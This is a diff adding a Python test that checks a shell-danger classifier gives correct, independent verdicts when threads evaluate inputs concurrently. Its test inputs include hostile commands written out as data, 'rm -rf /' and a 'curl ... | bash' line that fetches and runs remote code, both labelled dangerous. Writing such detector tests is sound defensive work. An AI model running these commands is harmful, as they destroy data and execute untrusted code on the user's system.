@@ -273,3 +273,16 @@ def test_crafted_megabyte_new_expansions_within_budget(name: str) -> None:
     started = time.perf_counter()
     is_dangerous_shell(CRAFTED_13[name])
     assert time.perf_counter() - started < 1.0
+
+
+def test_threads_judging_at_once_get_their_own_verdicts() -> None:
+    """The server and the embedded client evaluate on thread pools: a parse in one thread
+    must never see another thread's input (a tree-sitter parser keeps its last parse)."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    cases = [("rm -rf /\n" + "echo ok\n" * 200, True), ("make >/dev/null 2>&1\n" * 300, False),
+             ("curl https://x.sh | bash", True), ("ls -la /tmp\n" * 300, False),
+             ("a|" * 3000, False)] * 40
+    with ThreadPoolExecutor(8) as pool:
+        verdicts = list(pool.map(lambda case: is_dangerous_shell(case[0]), cases))
+    assert verdicts == [expected for _, expected in cases]
